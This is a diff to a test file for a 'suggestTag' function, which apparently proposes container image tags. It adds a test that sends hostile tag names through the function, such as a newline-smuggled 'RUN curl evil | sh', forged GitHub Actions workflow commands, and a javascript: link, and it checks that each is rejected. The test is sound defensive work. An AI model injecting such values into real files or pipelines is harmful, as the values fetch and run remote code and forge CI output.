@@ -140,6 +140,16 @@ describe('suggestTag', () => {
   });
 });
 
+describe('tag names from a hostile service', () => {
+  it('never suggests a name outside the tag grammar (newlines, markup, spaces): the suggestion is written into files by update', () => {
+    const hostile = ['1.28\n::error::forged', '1.28-dev\nRUN curl evil | sh', '1.29-dev [x](javascript:alert(1))', '1.30-dev @octocat', 'latest-dev\n::stop-commands::x'];
+    const tags = [tag('1.27-dev', true), ...hostile.map((name) => tag(name))];
+    expect(suggestTag(tags, '1.27-dev')).toBeNull();
+    // With a maintained sibling beside them, that sibling is the one.
+    expect(suggestTag([...tags, tag('1.28-dev')], '1.27-dev')?.name).toBe('1.28-dev');
+  });
+});
+
 describe('references', () => {
   const name = { registry: 'cgr.dev', org: 'chainguard', image: 'nginx' };
   const digest = `sha256:${hex(7)}`;
